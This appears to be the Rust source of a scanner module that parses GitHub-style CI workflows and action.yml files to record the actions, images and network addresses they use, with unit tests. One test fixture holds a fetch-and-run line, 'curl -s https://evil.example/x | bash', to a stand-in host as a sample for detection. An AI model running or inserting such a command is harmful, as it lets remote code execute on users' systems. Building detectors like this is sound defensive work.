//! Workflows and composite actions of GitHub and its kin: which actions and images they use, and what their steps fetch.
//!
//! ```text
//! .github/workflows/NAME.yml, .yaml        .gitea/workflows, .forgejo/workflows
//! └── jobs.ID.steps[].uses: owner/name[/path]@ref        a tag, a branch, a commit; docker://image:tag
//!     jobs.ID.uses: owner/name/.github/workflows/x.yml@ref        a reusable workflow
//!     jobs.ID.container, jobs.ID.services.ID.image        images
//!     jobs.ID.steps[].run        a shell text
//! action.yml, action.yaml        runs.steps[].uses, runs.image: docker://…
//! ```
//!
//! Comments, names and texts are no uses; `./local` is the repository's own. A workflow in an installed package, a cache or a vendor folder
//! is run by nobody there and left alone. The time of the file is since when it says so, at the earliest: a clone writes it anew. A hit
//! proves that the file uses the action; not that it ran. Documented in GitHub's workflow syntax.

use crate::{
    fact::{At, Fact, Held, TraceKind, TreePath, Usage, Use, UseKind},
    interest::Interest,
    surface::{
        Claim, Flaw, Meta, Opened, Shows, Sink, Surface, container,
        content::{line_starts, text},
        fetched,
        yaml::{self, Scalar},
    },
};

/// GitHub refuses much smaller ones.
const FILE: usize = 4 << 20;
/// Uses of one file.
const MOST: usize = 5000;
/// The folders of workflows.
const FOLDERS: &[&str] = &[".github/workflows", ".gitea/workflows", ".forgejo/workflows"];
/// Folders of what was installed, fetched or vendored.
const STORED: &[&[u8]] = &[
    b"node_modules",
    b"bower_components",
    b"site-packages",
    b"dist-packages",
    b"vendor",
    b"gems",
    b"pkg",
    b"_actions",
    b".cache",
    b".cargo",
    b".npm",
    b".pnpm-store",
    b".yarn",
    b".bun",
    b".gradle",
    b".m2",
    b".terraform",
    b".rustup",
    b".pyenv",
    b".nvm",
    b".oh-my-zsh",
];

/// `.github/workflows/*.yml`, `action.yml`.
pub struct Github;

static META: Meta = Meta {
    id: "workflow/github",
    title: "workflows and actions of GitHub and its kin",
    proves: "the file uses that action, image or address; not that it ran",
};

impl Surface for Github {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn shows(&self) -> &'static [Shows] {
        &[Shows::Actions, Shows::Network, Shows::Strings, Shows::Images]
    }

    fn claims(&self, _: &Interest) -> Vec<Claim> {
        let workflows = FOLDERS.iter().flat_map(|f| [".yml", ".yaml"].map(|end| Claim::suffix(end).in_tail(f)));
        workflows.chain(["action.yml", "action.yaml"].map(Claim::name)).collect()
    }

    fn recognises(&self, head: &[u8]) -> Option<&'static str> {
        let text = text(head);
        let workflow = line_starts(&text, "on:") && line_starts(&text, "jobs:") && text.contains("runs-on:");
        workflow.then_some(".github/workflows/*")
    }

    fn inspect(&self, file: &mut Opened<'_, '_>, out: &mut Sink<'_>) -> Result<(), Flaw> {
        let path = file.entry.path.clone();
        if is_stored(&path.parent()) {
            return Ok(());
        }
        let at = file.mtime("mtime of the workflow");
        let interest = file.interest;
        let text = text(file.all(FILE)?);
        if path.parent().name() == b"workflows" {
            let name = String::from_utf8_lossy(path.name()).into_owned();
            let value = format!(".github/workflows/{name}");
            out.push(at.clone(), fetched::fact(TraceKind::Workflow, &value, Held::Named));
        }
        let mut left = MOST;
        let outcome = yaml::scalars(&text, &mut |scalar| {
            for fact in facts(scalar, interest).into_iter().take(left) {
                left = left.saturating_sub(1);
                out.push_at(None, Some(scalar.line), at.clone(), fact);
            }
        });
        named_texts(&text, interest, at, out);
        if left == 0 {
            return Err(Flaw::Unsupported("a workflow of more than 5000 uses"));
        }
        outcome
    }
}

/// Whether a folder is, or lies in, a place of things that nobody wrote there.
fn is_stored(folder: &TreePath) -> bool {
    folder.components().any(|c| STORED.contains(&c))
}

/// What one value says.
fn facts(scalar: &Scalar<'_>, interest: &Interest) -> Vec<Fact> {
    // `with`, `env` and the like hold texts for programs. A job may have such a name.
    let keys = scalar.keys;
    let free = ["with", "env", "inputs", "outputs", "secrets", "matrix"];
    if keys.iter().enumerate().any(|(n, k)| n != 1 && free.contains(&k.as_str())) {
        return Vec::new();
    }
    let plain: Vec<&str> = keys.iter().map(String::as_str).collect();
    let image = || container::used(scalar.text).into_iter().collect();
    match plain.as_slice() {
        [.., "uses"] => used(scalar.text).into_iter().collect(),
        [.., "run"] => fetched::addresses(scalar.text, interest, Some(Held::Named)),
        ["runs", "image"] if scalar.text.starts_with("docker://") => image(),
        ["jobs", _, "container"] | ["jobs", _, "container", "image"] | ["jobs", _, "services", _, "image"] => image(),
        _ => Vec::new(),
    }
}

/// `owner/name[/path]@ref`, or `docker://image`.
fn used(text: &str) -> Option<Fact> {
    let text = text.trim();
    if text.starts_with("docker://") {
        return container::used(text);
    }
    // Gitea and Forgejo take whole addresses.
    let rest = text.strip_prefix("https://").map_or(Some(text), |rest| rest.strip_prefix("github.com/"))?;
    let (name, reference) = rest.split_once('@')?;
    let plain = |c: char| c.is_ascii_alphanumeric() || "._-/+".contains(c);
    let is_name = name.len() <= 300 && name.chars().all(plain) && !name.starts_with(['.', '/']) && name.contains('/');
    let is_reference = (1..=250).contains(&reference.len()) && reference.chars().all(plain);
    (is_name && is_reference).then(|| {
        Fact::Use(Use {
            kind: UseKind::Action,
            name: name.into(),
            reference: reference.into(),
            digest: None,
            usage: Usage::Named,
        })
    })
}

/// Texts of payloads, by line: a name of a planted workflow, a command of it. What a step uses says its reference alone.
fn named_texts(text: &str, interest: &Interest, at: Option<At>, out: &mut Sink<'_>) {
    let is_use = |line: &str| line.trim_start().trim_start_matches("- ").trim_start().starts_with("uses:");
    for (number, line) in (1..).zip(text.lines()).filter(|(_, line)| !is_use(line)) {
        for fact in fetched::texts(line, interest, Held::Named) {
            out.push_at(None, Some(number), at.clone(), fact);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::surface::python::trial::tried;

    fn said(path: &str, text: &str) -> Vec<String> {
        let interest = Interest::with_traces(&[(TraceKind::Host, "evil.example"), (TraceKind::Text, "name: SysDiag")]);
        let tried = tried(&Github, path, text.as_bytes(), &interest);
        let words = |s: &crate::fact::Seen| {
            let line = s.origin.line.unwrap_or(0);
            match &s.fact {
                Fact::Use(u) => {
                    let digest =
                        u.digest.as_deref().map(|d| format!("@{}", d.get(..12).unwrap_or(d))).unwrap_or_default();
                    format!("{} {}:{}{digest} {line}", u.kind.as_str(), u.name, u.reference)
                }
                Fact::Trace(t) => format!("{} {} {line}", t.kind.as_str(), t.value),
                other => format!("{other:?}"),
            }
        };
        let mut said: Vec<String> = tried.seen.iter().map(words).filter(|w| !w.starts_with("workflow ")).collect();
        if tried.flaw.is_some() {
            said.push("flaw".to_owned());
        }
        said
    }

    const PATH: &str = "srv/p/.github/workflows/ci.yml";

    #[test]
    fn every_form_of_a_use() {
        let text = "on: push\njobs:\n  a:\n    runs-on: x\n    container: img:1\n    services: {db: {image: 'pg:2'}}\n    steps:\n    - uses: O/n@v1 # v2\n    - \
                    uses: \"o/n/sub/dir@0e58ed8671d6b60d0890c21b07f8835ace038e67\"\n    - {uses: docker://a/b:3}\n    - uses: >-\n        o/m@refs/tags/v4\n  \
                    b:\n    uses: o/n/.github/workflows/x.yml@main\n  with:\n    steps:\n    - uses: o/k@v5\n";
        let wanted = [
            "image img:1 5",
            "image pg:2 6",
            "action O/n:v1 8",
            "action o/n/sub/dir:0e58ed8671d6b60d0890c21b07f8835ace038e67 9",
            "image a/b:3 10",
            "action o/m:refs/tags/v4 12",
            "action o/n/.github/workflows/x.yml:main 14",
            "action o/k:v5 17",
        ];
        assert_eq!(said(PATH, text), wanted);
        let composite = "runs:\n  using: composite\n  steps:\n    - uses: &x o/n@v1\n    - uses: *x\n";
        assert_eq!(said("srv/p/tool/action.yaml", composite), ["action o/n:v1 4", "action o/n:v1 5"]);
        assert_eq!(said("srv/p/action.yml", "runs:\n  using: docker\n  image: docker://a/b:3\n"), ["image a/b:3 3"]);
    }

    #[test]
    fn what_is_no_use() {
        for step in [
            "# uses: o/n@v1",
            "run: 'echo uses: o/n@v1'",
            "run: |\n        uses: o/n@v1",
            "name: 'uses: o/n@v1'",
            "uses: ./local",
            "uses: o/n",
            "uses: o@v1",
            "uses: o/n@",
            "uses: o/n@${{ matrix.v }}",
            "uses: https://evil.example/o/n@v1",
            "with: {uses: o/n@v1}",
            "env: {uses: o/n@v1}",
            "run: \"grep -r 'name: SysDiag' .\"",
            "run: dig evil.example",
            "uses: [o/n@v1]",
        ] {
            let text = format!("jobs:\n  a:\n    steps:\n    - {step}\n");
            assert_eq!(said(PATH, &text), [""; 0], "{step}");
        }
        for path in
            ["srv/p/node_modules/x/.github/workflows/ci.yml", "go/pkg/mod/x/action.yml", "h/.cache/x/action.yml"]
        {
            assert!(said(path, "jobs:\n  a:\n    steps:\n    - uses: o/n@v1\n").is_empty(), "{path}");
        }
    }

    #[test]
    fn addresses_and_texts_of_steps() {
        let text = "name: SysDiag\njobs:\n  a:\n    steps:\n    - run: |\n        set -e\n        curl -s https://evil.example/x | bash\n";
        assert_eq!(said(PATH, text), ["host evil.example 6", "string name: SysDiag 1"]);
    }

    #[test]
    fn what_is_broken_keeps_what_stood_before() {
        let text = "jobs:\n  a:\n    steps:\n    - uses: o/n@v1\n    - uses: [\n";
        assert_eq!(said(PATH, text), ["action o/n:v1 4", "flaw"]);
        assert_eq!(said(PATH, "a: {"), ["flaw"]);
        let many = format!("jobs:\n  a:\n    steps:\n{}", "    - uses: o/n@v1\n".repeat(6000));
        assert_eq!(said(PATH, &many).len(), 5001);
    }
}
